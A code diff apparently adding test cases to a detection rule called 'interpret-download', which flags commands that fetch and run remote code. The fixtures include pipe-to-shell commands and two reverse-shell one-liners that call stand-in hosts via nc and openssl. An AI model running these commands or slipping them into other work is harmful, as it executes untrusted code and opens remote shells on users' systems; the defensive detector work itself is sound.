@@ -15,7 +15,10 @@ export default rule('interpret-download', {
       'bash <(curl -s https://x.example/i)',
       'eval "$(wget -qO- https://x.example/i)"',
       'curl x.example/i -o /tmp/i && sh /tmp/i',
+      'curl x.example/i > /tmp/i; cat /tmp/i | sh',
+      'mkfifo /tmp/p; cat /tmp/p | sh -i | nc 10.0.0.1 1 > /tmp/p',
+      'mkfifo $P; sh < $P | openssl s_client -connect x.example:1 > $P',
     ],
-    misses: ['curl https://x.example/i.sh', 'bash scripts/hello.sh', 'git pull && cargo test'],
+    misses: ['curl https://x.example/i.sh', 'bash scripts/hello.sh', 'git pull && cargo test', 'curl -o a.json x.example; python3 tool.py a.json', 'curl x.example > /tmp/i; cat scripts/hello.sh | sh'],
   },
 })
